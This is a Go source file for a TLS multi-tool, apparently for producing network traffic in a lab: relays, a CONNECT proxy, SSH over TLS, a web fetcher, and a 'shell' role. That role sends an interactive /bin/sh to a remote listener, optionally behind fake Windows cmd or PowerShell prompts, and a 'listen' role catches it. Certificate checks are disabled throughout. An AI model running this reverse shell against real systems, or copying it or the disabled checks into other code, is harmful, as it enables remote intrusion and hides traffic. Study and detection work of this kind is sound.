// SPDX-License-Identifier: LGPL-2.1-or-later

// What Go programs do with TLS (crypto/tls): relays of both sides, a forward proxy, a shell given away, whoever waits
// for one, SSH inside TLS (x/crypto/ssh, built with the tag `ssh`), and web requests. Run as `tls ROLE ARGUMENTS...`.
package main

import (
	"bufio"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"time"
)

var inside func(stream net.Conn, user, password, command string) error // set where SSH is built in

func try(err error) {
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func trusting() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true}
}

func serving(pem string) *tls.Config {
	pair, err := tls.LoadX509KeyPair(pem, pem)
	try(err)
	return &tls.Config{Certificates: []tls.Certificate{pair}}
}

func join(a, b net.Conn) {
	go func() { io.Copy(a, b); a.Close() }()
	io.Copy(b, a)
	b.Close()
}

// front ends TLS and passes bytes on; local takes plain TCP and speaks TLS to the front.
func relay(listener net.Listener, dial func() (net.Conn, error)) {
	for {
		caller, err := listener.Accept()
		try(err)
		go func() {
			if other, err := dial(); err == nil {
				join(caller, other)
			} else {
				caller.Close()
			}
		}()
	}
}

func proxy(answer http.ResponseWriter, request *http.Request) {
	if request.Method != http.MethodConnect {
		http.Error(answer, "CONNECT only", http.StatusMethodNotAllowed)
		return
	}
	other, err := net.Dial("tcp", request.Host)
	if err != nil {
		http.Error(answer, err.Error(), http.StatusBadGateway)
		return
	}
	caller, _, err := answer.(http.Hijacker).Hijack()
	try(err)
	io.WriteString(caller, "HTTP/1.1 200 OK\r\n\r\n")
	join(caller, other)
}

// shell gives a shell away: `pipe` runs sh with the connection as its input and output; `cmd` and `ps` answer as the
// two shells of Windows do, with a prompt and, for cmd, an echo of the line.
func shell(stream net.Conn, kind string) {
	if kind == "pipe" {
		child := exec.Command("/bin/sh", "-i")
		child.Stdin, child.Stdout, child.Stderr = stream, stream, stream
		child.Run()
		return
	}
	prompt := "PS C:\\Users\\student> "
	if kind == "cmd" {
		prompt = "\r\nC:\\Users\\student>"
		io.WriteString(stream, "Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n")
	}
	io.WriteString(stream, prompt)
	lines := bufio.NewScanner(stream)
	for lines.Scan() {
		line := lines.Text()
		if line == "exit" {
			return
		}
		out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
		if kind == "cmd" {
			io.WriteString(stream, line+"\n")
		}
		stream.Write(out)
		io.WriteString(stream, prompt)
	}
}

func get(through string, pause time.Duration, pages []string) {
	way := &http.Transport{TLSClientConfig: trusting(), ForceAttemptHTTP2: true}
	if through != "-" {
		where, err := url.Parse("https://" + through)
		try(err)
		way.Proxy = http.ProxyURL(where)
	}
	client := &http.Client{Transport: way}
	for _, page := range pages {
		answer, err := client.Get(page)
		try(err)
		io.Copy(io.Discard, answer.Body)
		answer.Body.Close()
		time.Sleep(pause)
	}
}

func main() {
	role, place, more := os.Args[1], os.Args[2], os.Args[3:]
	switch role {
	case "front": // LISTEN TARGET PEM
		listener, err := tls.Listen("tcp", place, serving(more[1]))
		try(err)
		relay(listener, func() (net.Conn, error) { return net.Dial("tcp", more[0]) })
	case "local": // LISTEN SERVER
		listener, err := net.Listen("tcp", place)
		try(err)
		relay(listener, func() (net.Conn, error) { return tls.Dial("tcp", more[0], trusting()) })
	case "proxy": // LISTEN PEM
		server := &http.Server{Addr: place, Handler: http.HandlerFunc(proxy), TLSNextProto: map[string]func(*http.Server, *tls.Conn, http.Handler){}}
		try(server.ListenAndServeTLS(more[0], more[0]))
	case "web": // LISTEN ROOT PEM
		try(http.ListenAndServeTLS(place, more[1], more[1], http.FileServer(http.Dir(more[0]))))
	case "shell": // SERVER KIND
		stream, err := tls.Dial("tcp", place, trusting())
		try(err)
		shell(stream, more[0])
	case "listen": // LISTEN PEM: waits for one caller and joins it with the terminal
		listener, err := tls.Listen("tcp", place, serving(more[0]))
		try(err)
		caller, err := listener.Accept()
		try(err)
		go io.Copy(caller, os.Stdin)
		io.Copy(os.Stdout, caller)
	case "pipe": // SERVER: a ProxyCommand
		stream, err := tls.Dial("tcp", place, trusting())
		try(err)
		go func() { io.Copy(stream, os.Stdin); stream.CloseWrite() }()
		io.Copy(os.Stdout, stream)
	case "ssh": // SERVER USER PASSWORD COMMAND...
		stream, err := tls.Dial("tcp", place, trusting())
		try(err)
		try(inside(stream, more[0], more[1], strings.Join(more[2:], " ")))
	case "get": // PROXY|- PAUSE_MS URL...
		pause, err := strconv.Atoi(more[0])
		try(err)
		get(place, time.Duration(pause)*time.Millisecond, more[1:])
	}
}
